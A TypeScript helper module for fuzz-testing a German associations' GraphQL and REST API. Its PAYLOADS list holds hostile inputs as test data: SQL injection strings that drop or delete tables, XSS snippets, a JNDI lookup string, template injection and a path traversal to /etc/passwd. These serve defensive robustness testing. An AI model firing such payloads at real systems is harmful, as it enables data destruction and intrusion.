// The fuzzing machinery of tests/integration/api/fuzz.test.ts and api/http-fuzz.test.ts:
// seeds, what an answer must never be, the fingerprint of the tables a call can change, the
// objects generated ids point at, and generators of argument values from the schema's types.
import crypto from "node:crypto";
import fs from "node:fs";
import fc from "fast-check";
import {
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  getNamedType,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
} from "graphql";
import { expect } from "vitest";
import type { PrismaClient } from "../../server/src/generated/prisma/client.ts";
import { gid as globalId } from "./fixtures.ts";
import type { World } from "./principals.ts";

/**
 * Fixed seeds, so CI replays the same calls. To hunt for more, run with FUZZ_SEED=<any number>
 * (added to each seed) and FUZZ_FACTOR=<n> (n times the runs); a failure prints seed and path to replay.
 */
export function runs(numRuns: number, seed: number): fc.Parameters<unknown> {
  return { numRuns: Math.ceil(numRuns * Number(process.env.FUZZ_FACTOR ?? 1)), seed: seed + Number(process.env.FUZZ_SEED ?? 0) };
}

// ---------------------------------------------------------------------------------------------
// What a call must never answer

/** the app's own error codes (auth/errors.ts AppError) and those of graphql/errors.ts: their messages are German */
export const APP_CODES = new Set([
  "UNAUTHENTICATED",
  "FORBIDDEN",
  "NOT_FOUND",
  "VALIDATION",
  "CONFLICT",
  "IDEMPOTENCY_KEY_REUSED",
  "PRECONDITION_FAILED",
  "PAYLOAD_TOO_LARGE",
  "BLOCKED",
  "BAD_REQUEST",
  "RATE_LIMITED",
  "UNAVAILABLE",
  "INVALID_ID",
  "INVALID_CURSOR",
  "BAD_USER_INPUT",
  "GRAPHQL_VALIDATION_FAILED",
  "GRAPHQL_PARSE_FAILED",
]);
/** the codes of the error table in docs/api.md (section 7): every code an answer carries must be one of them */
export const DOCUMENTED_CODES: ReadonlySet<string> = new Set(
  [
    ...fs
      .readFileSync("docs/api.md", "utf8")
      .split("\n## 7. Errors")[1]
      .split("\n## 8.")[0]
      .matchAll(/^\| `([A-Z_]+)`(?: \/ `([A-Z_]+)`)? \|/gm),
  ].flatMap((m) => m.slice(1).filter(Boolean)),
);
export const GERMAN =
  /[äöüßÄÖÜ„“]|\b(nicht|bitte|ungültige?|keine?|datei|eingeben|gefunden|berechtigung|erwartet|erlaubt|ist|sind|der|die|das|ein|eine|und|oder|von|zu|für|mit|schon|bereits|nur|noch|kann|muss|darf|wird|anfrage|eingabe)\b/i;
export const STACK = /\n\s+at\s|\bat\s+\S+\s+\(.*:\d+:\d+\)|node_modules|prisma\.|PrismaClient|TypeError|ReferenceError/;

export type GqlError = { message?: unknown; extensions?: Record<string, unknown> };

export function assertCleanGraphQL(res: { status: number; body: { errors?: GqlError[] } }, label: string) {
  const detail = `${label}: ${JSON.stringify(res.body).slice(0, 600)}`;
  expect(res.status, detail).toBeLessThan(500);
  for (const e of res.body.errors ?? []) {
    expect(typeof e.message === "string" && e.message.trim() !== "", detail).toBe(true);
    expect(e.message, detail).not.toBe("Unexpected error.");
    expect(e.extensions?.code, detail).not.toBe("INTERNAL_SERVER_ERROR");
    expect(e.extensions?.stack ?? e.extensions?.originalError, detail).toBeUndefined();
    const code = e.extensions?.code;
    expect(typeof code, detail).toBe("string"); // every error carries a code
    expect(DOCUMENTED_CODES, `${detail}: a code docs/api.md does not list`).toContain(code);
    if (typeof code === "string" && APP_CODES.has(code)) {
      expect(e.message as string, detail).toMatch(GERMAN);
      expect(e.message as string, detail).not.toMatch(STACK);
      for (const m of Object.values((e.extensions?.fields as Record<string, unknown>) ?? {})) {
        expect(typeof m === "string" && GERMAN.test(m), detail).toBe(true);
      }
    }
  }
}

export function assertCleanRest(res: { status: number; body: unknown }, label: string) {
  const detail = `${label}: ${JSON.stringify(res.body).slice(0, 600)}`;
  expect(res.status, detail).toBeLessThan(500);
  if (res.status >= 400) {
    const err = (res.body as { error?: { code?: unknown; message?: unknown; fields?: Record<string, unknown> } })?.error;
    expect(err, detail).toBeDefined();
    expect(typeof err?.code, detail).toBe("string");
    expect(DOCUMENTED_CODES, `${detail}: a code docs/api.md does not list`).toContain(err?.code);
    expect(typeof err?.message === "string" && GERMAN.test(err.message), detail).toBe(true);
    expect(err?.message as string, detail).not.toMatch(STACK);
    for (const m of Object.values(err?.fields ?? {})) expect(typeof m === "string" && GERMAN.test(m), detail).toBe(true);
  }
}

// ---------------------------------------------------------------------------------------------
// No partial writes: a fingerprint of every table a call can change. Volatile columns that a mere
// request touches (the user's lastActive stamp) are left out; file contents by their hash.

// Cheap aggregates (the file makes about 1500 calls): a change of any row of these tables moves its
// count, highest id, sum of versions or latest updatedAt (Prisma stamps updatedAt on every update).
// User rows: lastActive (stamped by a mere request) bumps updatedAt, so their content is hashed instead.
const FINGERPRINT: Record<string, string> = {
  DistrictAssociation: `count(*), max(id), sum(version), max("updatedAt"), sum(hashtext(name || "iamRef" || coalesce("signatureFileId", 0)))`,
  Association: `count(*), max(id), sum(version), max("updatedAt")`,
  User: `count(*), max(id), sum(version), sum(hashtext(concat_ws('|', email, firstname, lastname, phone, street, postcode, city, country, blocked, roles::text, "districtAssociationId", "inviteCode")))`,
  UserAssociation: `count(*), sum("userId"::bigint * 1000003 + "associationId")`,
  Event: `count(*), max(id), sum(version), max("updatedAt")`,
  EventLocation: `count(*), max(id), sum(version), max("updatedAt")`,
  DexamRegistration: `count(*), max(id), sum(version), max("updatedAt")`,
  CompetitionRegistration: `count(*), max(id), sum(version), max("updatedAt")`,
  StoredFile: `count(*), max(id)`,
  AuditEntry: `count(*), max(id)`,
  ApiClient: `count(*), max(id), count("revokedAt")`,
};
export const FINGERPRINT_SQL = `SELECT ${Object.entries(FINGERPRINT)
  .map(([table, aggregates]) => `(SELECT concat_ws(':', ${aggregates}) FROM "${table}") AS "${table}"`)
  .join(", ")}`;

// ---------------------------------------------------------------------------------------------
// Objects the generated ids point at: a fresh set per property, so deletions of one mutation's
// runs never starve the next. Protected rows (the principals' districts and clubs) are offered to
// every mutation except the destructive ones, so a fuzzed delete never removes a caller.

export type Pools = Record<string, { id: number; protected?: boolean }[]>;
let seq = 0;

/** a fresh set of objects for one property (see above) */
export async function scenario(prisma: PrismaClient, world: Pick<World, "district1" | "club1">): Promise<Pools> {
  const n = ++seq;
  const now = Date.now();
  const day = 86400_000;
  const district = await prisma.districtAssociation.create({
    data: { name: `KV Fuzz ${n}`, iamRef: `fuzz-${n}`, gdprLink: "https://e.test/g", impressLink: "https://e.test/i" },
  });
  const clubA = await prisma.association.create({ data: { name: `Verein Fuzz ${n}`, districtAssociationId: world.district1 } });
  const clubB = await prisma.association.create({ data: { name: `Verein Fuzz ${n}b`, districtAssociationId: district.id } });
  const event = (formType: "DEXAM" | "DEXAM_CAMP" | "COMPETITION", cancellationConditions: string | null = null) =>
    prisma.event.create({
      data: {
        name: `Fuzz ${formType} ${n}`,
        districtAssociationId: world.district1,
        formType,
        registrationDeadline: new Date(now + 30 * day),
        startPublishing: new Date(now - day),
        finishPublishing: new Date(now + 60 * day),
        privacyPolicy: "p",
        cancellationConditions,
        locations: {
          create:
            formType === "COMPETITION"
              ? [{ name: "Halle", type: "COMPETITION", street: "S", city: "C", competitionTypes: ["K", "B", "G"] }]
              : [
                  { name: "Theorie", type: "DEXAM_THEORY", street: "S", city: "C", dexamTypes: ["D1", "D2"] },
                  { name: "Praxis", type: "DEXAM_PRACTICE", street: "S", city: "C", dexamTypes: ["D1", "D2"], instruments: ["FLUTE", "CLARINET"] },
                  { name: "Vorbereitung", type: "DEXAM_PREPARATION", street: "S", city: "C", dexamTypes: ["D1", "D2"] },
                ],
        },
      },
      include: { locations: { orderBy: { id: "asc" } } },
    });
  const dexam = await event("DEXAM");
  const camp = await event("DEXAM_CAMP", "Storno bis 4 Wochen vorher kostenlos");
  const competition = await event("COMPETITION");
  const [theory, practice] = dexam.locations;
  const reg = (data: Record<string, unknown> = {}) =>
    prisma.dexamRegistration.create({
      data: {
        eventId: dexam.id,
        firstname: "Kim",
        lastname: `Fuzz${n}`,
        birthdate: new Date("2012-01-01"),
        gender: "F",
        associationId: world.club1,
        instrument: "FLUTE",
        type: "D1",
        theoryLocationId: theory.id,
        ...data,
      },
    });
  const plain = await reg();
  const withPractice = await reg({ practiceLocationId: practice.id, theoryLocationId: null });
  // theory passed, practice failed: a takeover source
  const partial = await reg({ practiceLocationId: practice.id, theoryPoints: 30, practicePoints: 20 });
  const competitionReg = await prisma.competitionRegistration.create({
    data: {
      eventId: competition.id,
      locationId: competition.locations[0].id,
      name: `Ensemble ${n}`,
      associationId: world.club1,
      type: "K",
      cast: "B",
      category: "CAT_3",
      conductorName: "D",
      numberOfMusicians: 30,
    },
  });
  const user = (name: string, data: Record<string, unknown> = {}) =>
    prisma.user.create({
      data: {
        email: `${name}${n}@fuzz.example`,
        firstname: "Ziel",
        lastname: name,
        districtAssociationId: world.district1,
        associations: { create: [{ associationId: world.club1 }] },
        ...data,
      },
    });
  const invited = await user("eingeladen", { inviteCode: `code-${n}-${crypto.randomBytes(4).toString("hex")}`, invitedAt: new Date() });
  const active = await user("aktiv", { lastActive: new Date(now - day), subject: `fuzz-target-${n}` });
  const apiClient = await prisma.apiClient.create({
    data: { clientId: `fuzz-client-${n}`, name: "Fuzz", secretHash: "x", roles: ["user_read"], districtAssociationId: world.district1 },
  });
  const ids = (...xs: { id: number }[]) => xs.map((x) => ({ id: x.id }));
  return {
    DistrictAssociation: [{ id: world.district1, protected: true }, ...ids(district)],
    Association: [{ id: world.club1, protected: true }, ...ids(clubA, clubB)],
    User: ids(invited, active),
    Event: ids(dexam, camp, competition),
    EventLocation: ids(...dexam.locations, ...camp.locations, ...competition.locations),
    DexamRegistration: ids(plain, withPractice, partial),
    CompetitionRegistration: ids(competitionReg),
    ApiClient: ids(apiClient),
  };
}

// ---------------------------------------------------------------------------------------------
// Generators from the argument types

export const PAYLOADS = [
  "",
  " ",
  "\t\n",
  '\'; DROP TABLE "User"; --',
  "Robert'); DELETE FROM \"Event\" WHERE ('1'='1",
  "1 OR 1=1",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "$" + "{jndi:ldap://x.test/a}",
  "{{7*7}}",
  "../../../etc/passwd",
  "\\",
  "%00%s%n",
  "\u0000",
  "a\u0000b",
  "\u202e\u200b\ufeff",
  "𝄞🎺👩‍👩‍👧‍👦",
  "\ud800",
  "NaN",
  "null",
  "undefined",
  "-1",
  "1e309",
  "0001-01-01",
  "9999-12-31T23:59:59Z",
  "data:application/pdf;base64,",
  "data:;base64,AAAA",
];

export const controlChars = fc.string({ unit: fc.integer({ min: 0, max: 31 }).map((c) => String.fromCharCode(c)), maxLength: 8 });
export const wildString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
  { weight: 2, arbitrary: controlChars },
  { weight: 3, arbitrary: fc.constantFrom(...PAYLOADS) },
  { weight: 1, arbitrary: fc.integer({ min: 256, max: 20_000 }).map((n) => "Ä".repeat(n)) },
  { weight: 1, arbitrary: fc.constant("x".repeat(300_000)) },
);

export const dayString = (offsetDays: number) => new Date(Date.now() + offsetDays * 86400_000).toISOString().slice(0, 10);
export const dataUrl = (mime: string, bytes: Uint8Array | Buffer) => `data:${mime};base64,${Buffer.from(bytes).toString("base64")}`;
export const PNG = Buffer.from("89504e470d0a1a0a0000000d4948445200000001000000010806000000", "hex");
export const PDF = Buffer.from("%PDF-1.4\n%âãÏÓ\n1 0 obj<<>>endobj\n%%EOF\n", "latin1");

/** plausible values by field name: most generated inputs are valid, so the rules behind the first check are reached too */
export function plausibleString(path: string): fc.Arbitrary<string> {
  const field = path.split(".").pop() as string;
  if (path === "FileUploadInput.name") return fc.constantFrom("einverstaendnis.pdf", "scan.png", "foto.JPG");
  if (path === "FileUploadInput.dataUrl") return fc.constantFrom(dataUrl("application/pdf", PDF), dataUrl("image/png", PNG));
  // a few addresses only, and those of existing accounts (any case): the unique index is hit often
  if (/email/i.test(field))
    return fc.oneof(
      fc.integer({ min: 1, max: 1e6 }).map((i) => `fuzz${i}@example.de`),
      fc.integer({ min: 1, max: 5 }).map((i) => `fuzz${i}@example.de`),
      fc.constantFrom("member@test.example", "Admin@Test.Example", "target@test.example"),
    );
  if (/phone/i.test(field)) return fc.constantFrom("+49711555", "+43 1 234", "0711 555");
  if (/postcode/i.test(field)) return fc.constantFrom("70173", "D-70173", "1010");
  if (/birthdate/i.test(field)) return fc.integer({ min: 3000, max: 20000 }).map((d) => dayString(-d));
  if (field === "date") return fc.constantFrom("2020-05-01", "2023-11-30");
  if (/link/i.test(field)) return fc.constantFrom("https://e.test/datenschutz", "http://kv.test/impressum");
  if (field === "signatureImage") return fc.constantFrom(dataUrl("image/png", PNG), "");
  if (field === "number") return fc.constantFrom("1", "42", "");
  if (field === "members") return fc.constantFrom("Anna\nBen", "");
  return fc.constantFrom("Blasorchester", "Müller-Lüdenscheidt", "Kim", "O'Brien", "Stadt", "Weg 1", "Deutschland");
}

export function wildFor(scalar: string): fc.Arbitrary<unknown> {
  if (scalar === "Int")
    return fc.oneof(
      fc.integer(),
      fc.constantFrom(-1, 0, 2_147_483_647, -2_147_483_648),
      // out of range for GraphQL Int and not an integer: refused by coercion, never a 500
      fc.constantFrom(2 ** 40, 1.5),
    );
  if (scalar === "Float")
    return fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constantFrom(-0, -1, 1e308, 5e-324, 0.001, 100.005, 99.999, 1e6));
  if (scalar === "DateTime" || scalar === "Date")
    return fc.oneof(
      wildString,
      fc.constantFrom(
        "0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z",
        "2024-02-30T00:00:00Z",
        "+275760-09-13T00:00:00Z",
        "0000-00-00",
        "2024-02-30",
        "10000-01-01",
      ),
    );
  if (scalar === "Boolean") return fc.boolean();
  return wildString;
}

export const ID_ARGS: [RegExp, string][] = [
  // the global-id fields are named like the read field (association: ID), the deprecated ones end in Id
  [/^districtAssociation(Id)?s?$/, "DistrictAssociation"],
  [/^association(Id)?s?$/, "Association"],
  [/^(event|source|target)Id$/, "Event"],
  [/^(theory|practice|preparation)?[lL]ocation(Id)?$/, "EventLocation"],
  [/^registrationId$/, "DexamRegistration"],
];

/** The object type an id argument names: by its name, or for `id` the mutation's result type (deleteX: X). */
export function idTarget(field: GraphQLField<unknown, unknown>, name: string): string | null {
  if (name === "id") {
    const result = getNamedType(field.type).name;
    return isLeafType(getNamedType(field.type)) ? (/^delete(\w+)$/.exec(field.name)?.[1] ?? null) : result;
  }
  return ID_ARGS.find(([re]) => re.test(name))?.[1] ?? null;
}

/** `hostile` (api/http-fuzz.test.ts) adds the values of HOSTILE below to every leaf of their kind */
export type GenCtx = { field: GraphQLField<unknown, unknown>; pools: Pools; destructive: boolean; hostile?: boolean };

/** the Node types of the schema and names that are none (a club is an Association) */
const ID_TYPES = [
  "Event",
  "EventLocation",
  "User",
  "Association",
  "DistrictAssociation",
  "DexamRegistration",
  "CompetitionRegistration",
  "ApiClient",
  "Club",
  "Query",
  "node",
];

/**
 * Values a hand-made request may carry: global ids that look valid but are not
 * (beyond int4, not a number, the wrong type or no type at all, not base64, without padding),
 * days that do not exist, ints out of any range, cursors no list gave.
 */
export const HOSTILE = {
  ID: fc.oneof(
    fc
      .tuple(fc.constantFrom(...ID_TYPES), fc.constantFrom("1", "0", "01", "-1", "1e3", "1.0", " 1", "abc", "99999999999", "2147483648", "2147483647", ""))
      .map(([t, id]) => globalId(t, id)),
    fc.constantFrom("Event:1", "RXZlbnQ6MQ", "RXZlbnQ6MQ==\n", "=", "====", "%00", "null", "0", "1", "-1", "V".padEnd(201, "A")),
  ),
  Int: fc.constantFrom(-1, -2_147_483_648, 2_147_483_647, 2_147_483_648, -2_147_483_649, Number.MAX_SAFE_INTEGER, 1e21, -0.5),
  Date: fc.constantFrom("2026-02-30", "2027-13-45", "2026-00-10", "2026-2-3", "0000-01-01", "1899-12-31", "2026-02-29", "+020260-01-01"),
  DateTime: fc.constantFrom("2026-02-30T10:00:00Z", "2027-13-45T00:00:00Z", "2026-01-01T25:61:00Z", "2026-01-01T00:00:00", "2026-01-01T00:00:00+99:00", "1e13"),
  cursor: fc.oneof(
    fc.constantFrom("", "abc", "YXJyYXljb25uZWN0aW9uOjA=", "T0M6LTE=", "eyJpZCI6MX0=", "=", "%"),
    fc.string({ maxLength: 20 }).map((t) => Buffer.from(t).toString("base64")),
  ),
};

export function idArb(ctx: GenCtx, name: string, kind: "ID" | "Int"): fc.Arbitrary<unknown> {
  const target = idTarget(ctx.field, name);
  const candidates = Object.entries(ctx.pools)
    .filter(([type]) => !target || !ctx.pools[target] || type === target)
    .flatMap(([type, rows]) => rows.filter((r) => !(ctx.destructive && r.protected)).map((r) => ({ type, id: r.id })));
  const valid = candidates.length ? fc.constantFrom(...candidates) : fc.constant({ type: target ?? "Event", id: 1 });
  if (kind === "Int")
    return fc.oneof(
      { weight: 8, arbitrary: valid.map((c) => c.id) },
      { weight: 2, arbitrary: wildFor("Int") },
      ...(ctx.hostile ? [{ weight: 3, arbitrary: HOSTILE.Int as fc.Arbitrary<unknown> }] : []),
    );
  const types = Object.keys(ctx.pools);
  return fc.oneof(
    { weight: 8, arbitrary: valid.map((c) => globalId(c.type, c.id)) },
    // the wrong type, a missing row, a non-numeric or huge id, plain garbage
    {
      weight: 1,
      arbitrary: fc.tuple(fc.constantFrom(...types), fc.constantFrom(...candidates.map((c) => c.id), 999_999_999)).map(([t, id]) => globalId(t, id)),
    },
    { weight: 1, arbitrary: fc.constantFrom(...types).map((t) => globalId(target ?? t, 999_999_999)) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(target ?? "Event"), fc.constantFrom("abc", "-1", "1.5", "99999999999999999999", "", "1 OR 1=1"))
        .map(([t, id]) => globalId(t, id)),
    },
    { weight: 1, arbitrary: wildString },
    ...(ctx.hostile ? [{ weight: 4, arbitrary: HOSTILE.ID }] : []),
  );
}

export function leafArb(type: GraphQLInputType, path: string, ctx: GenCtx): fc.Arbitrary<unknown> {
  const named = getNamedType(type);
  const field = path.split(".").pop() as string;
  if (isEnumType(named)) return fc.constantFrom(...named.getValues().map((v) => v.name));
  const scalar = named.name;
  const byName = /Ids?$/.test(field) || (field === "id" && (scalar === "ID" || scalar === "Int"));
  if (scalar === "ID" || (scalar === "Int" && byName)) return idArb(ctx, field, scalar === "ID" ? "ID" : "Int");
  let plausible: fc.Arbitrary<unknown>;
  switch (scalar) {
    case "String":
      plausible = plausibleString(path);
      break;
    case "Int":
      plausible =
        field === "numberOfMusicians"
          ? fc.integer({ min: 1, max: 80 })
          : field === "duration"
            ? fc.integer({ min: 30, max: 900 })
            : field === "year"
              ? fc.integer({ min: 2015, max: 2025 })
              : field === "version"
                ? fc.constant(1)
                : fc.integer({ min: 0, max: 100 });
      break;
    case "Float":
      plausible = fc.integer({ min: 0, max: 10_000 }).map((n) => n / 100);
      break;
    case "Boolean":
      plausible = /Accepted$/.test(field) ? fc.constant(true) : fc.boolean();
      break;
    case "DateTime":
      plausible = fc.integer({ min: -30, max: 400 }).map((d) => new Date(Date.now() + d * 86400_000).toISOString());
      break;
    case "Date":
      plausible = fc.integer({ min: 1, max: 400 }).map(dayString);
      break;
    default:
      plausible = wildString;
  }
  const hostile = !ctx.hostile
    ? null
    : /^(after|before)$/.test(field)
      ? HOSTILE.cursor
      : scalar === "Int" || scalar === "Date" || scalar === "DateTime"
        ? (HOSTILE[scalar] as fc.Arbitrary<unknown>)
        : null;
  // FUZZ_WILD=<n> makes wild values n times as likely (for hunting; CI uses 1)
  return fc.oneof(
    { weight: 12, arbitrary: plausible },
    { weight: Number(process.env.FUZZ_WILD ?? 1), arbitrary: wildFor(scalar) },
    ...(hostile ? [{ weight: 4, arbitrary: hostile }] : []),
  );
}

/** Values of an input type; nullable positions are sometimes null, optional fields sometimes left out. */
export function inputArb(type: GraphQLInputType, path: string, ctx: GenCtx): fc.Arbitrary<unknown> {
  const inner = isNonNullType(type) ? type.ofType : type;
  let value: fc.Arbitrary<unknown>;
  if (isListType(inner)) value = fc.array(inputArb(inner.ofType, path, ctx), { maxLength: 5 });
  else if (isInputObjectType(inner)) {
    const fields = Object.values(inner.getFields());
    const model = Object.fromEntries(fields.map((f) => [f.name, inputArb(f.type, `${inner.name}.${f.name}`, ctx)]));
    value = fc.record(model, { requiredKeys: fields.filter((f) => isNonNullType(f.type)).map((f) => f.name) });
  } else value = leafArb(inner, path, ctx);
  return isNonNullType(type) ? value : fc.oneof({ weight: 8, arbitrary: value }, { weight: 1, arbitrary: fc.constant(null) });
}

export function argsArb(ctx: GenCtx): fc.Arbitrary<Record<string, unknown>> {
  const args = ctx.field.args as readonly GraphQLArgument[];
  return fc.record(Object.fromEntries(args.map((a) => [a.name, inputArb(a.type, a.name, ctx)])), {
    requiredKeys: args.filter((a) => isNonNullType(a.type)).map((a) => a.name),
  });
}

export function documentFor(field: GraphQLField<unknown, unknown>): string {
  const vars = field.args.map((a) => `$${a.name}: ${String(a.type)}`).join(", ");
  const call = field.args.map((a) => `${a.name}: $${a.name}`).join(", ");
  const selection = isLeafType(getNamedType(field.type)) ? "" : " { __typename }";
  return `mutation Fuzz${vars ? `(${vars})` : ""} { ${field.name}${call ? `(${call})` : ""}${selection} }`;
}
